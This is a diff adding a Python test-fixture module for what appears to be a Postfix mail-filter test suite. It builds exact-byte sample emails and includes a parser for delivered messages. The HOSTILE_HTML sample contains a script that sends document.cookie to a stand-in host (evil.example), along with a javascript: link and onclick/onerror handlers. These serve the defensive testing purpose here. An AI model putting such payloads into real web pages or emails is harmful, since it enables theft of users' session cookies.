@@ -1,0 +1,125 @@
+"""Test messages as exact bytes (CRLF line ends), and a reader for what Postfix delivered.
+
+Each message carries the headers Postfix would otherwise add for a loopback
+client (Date, Message-ID, From, To), so Postfix's cleanup adds nothing but
+its Received header and the delivered bytes can be compared exactly.
+"""
+
+from __future__ import annotations
+
+import base64
+import uuid
+from dataclasses import dataclass
+
+SENDER = "alice@example.org"
+RECIPIENT = "bob@example.net"
+
+
+@dataclass(frozen=True)
+class Sample:
+    message_id: str  # with angle brackets
+    data: bytes
+
+
+def _build(headers: list[tuple[str, str]], body: str, tag: str) -> Sample:
+    message_id = f"<{tag}-{uuid.uuid4().hex[:12]}@example.org>"
+    fields = [
+        ("From", f"Alice <{SENDER}>"),
+        ("To", f"Bob <{RECIPIENT}>"),
+        ("Date", "Mon, 23 Nov 2026 10:00:00 +0000"),
+        ("Message-ID", message_id),
+        *headers,
+    ]
+    head = "".join(f"{name}: {value}\r\n" for name, value in fields)
+    return Sample(message_id, (head + "\r\n" + body).encode())
+
+
+def _crlf(text: str) -> str:
+    return text.replace("\r\n", "\n").replace("\n", "\r\n")
+
+
+def clean(subject: str = "Quarterly report") -> Sample:
+    body = _crlf(
+        "Hello Bob,\n\n"
+        "the figures are in. A line that starts with a dot follows:\n"
+        ".hidden by dot-stuffing on the wire, restored on arrival\n"
+        "Trailing spaces stay:   \n"
+        "\tand tabs too.\n\n"
+        "Alice\n"
+    )
+    return _build([("Subject", subject), ("MIME-Version", "1.0"),
+                   ("Content-Type", "text/plain; charset=us-ascii")], body, "clean")
+
+
+HOSTILE_HTML = (
+    "<html><body><p>Hi Bob, <b>see below</b>.</p>\n"
+    '<script>document.location="https://evil.example/steal?c="+document.cookie</script>\n'
+    '<a href="javascript:alert(1)" onclick="steal()">click me</a>\n'
+    '<img src="https://tracker.example/p.gif" onerror="steal()">\n'
+    "<p>Regards, Alice</p></body></html>\n"
+)
+
+
+def hostile_html() -> Sample:
+    return _build([("Subject", "Your invoice"), ("MIME-Version", "1.0"),
+                   ("Content-Type", "text/html; charset=us-ascii")],
+                  _crlf(HOSTILE_HTML), "html")
+
+
+def with_attachment(
+    filename: str, payload: bytes, content_type: str, subject: str = "Files for you"
+) -> Sample:
+    encoded = base64.encodebytes(payload).decode()
+    body = _crlf(
+        "--b1\n"
+        "Content-Type: text/plain; charset=us-ascii\n\n"
+        "See the attachment.\n"
+        "--b1\n"
+        f'Content-Type: {content_type}; name="{filename}"\n'
+        f'Content-Disposition: attachment; filename="{filename}"\n'
+        "Content-Transfer-Encoding: base64\n\n"
+        f"{encoded}"
+        "--b1--\n"
+    )
+    return _build([("Subject", subject), ("MIME-Version", "1.0"),
+                   ("Content-Type", 'multipart/mixed; boundary="b1"')], body, "attach")
+
+
+def executable() -> Sample:
+    # A PE header, so type detection by content agrees with the name.
+    return with_attachment("invoice.exe", b"MZ\x90\x00" + bytes(2048), "application/octet-stream")
+
+
+def big_text(size: int, subject: str = "Big") -> Sample:
+    line = "x" * 76 + "\r\n"
+    return _build([("Subject", subject)], line * (size // len(line) + 1), "big")
+
+
+@dataclass(frozen=True)
+class Delivered:
+    """A delivered message split into its header fields (raw, folded) and body."""
+
+    fields: list[bytes]  # each field with its folded continuation lines and CRLFs
+    body: bytes
+
+    @classmethod
+    def parse(cls, data: bytes) -> Delivered:
+        head, sep, body = data.partition(b"\r\n\r\n")
+        assert sep, "no end of headers in the delivered message"
+        fields: list[bytes] = []
+        for line in (head + b"\r\n").splitlines(keepends=True):
+            if line[:1] in (b" ", b"\t") and fields:
+                fields[-1] += line
+            else:
+                fields.append(line)
+        return cls(fields, body)
+
+    def names(self) -> list[str]:
+        return [f.split(b":", 1)[0].decode().lower() for f in self.fields]
+
+    def header(self, name: str) -> str | None:
+        for field in self.fields:
+            key, _, value = field.partition(b":")
+            if key.decode().lower() == name.lower():
+                return value.decode().strip()
+        return None
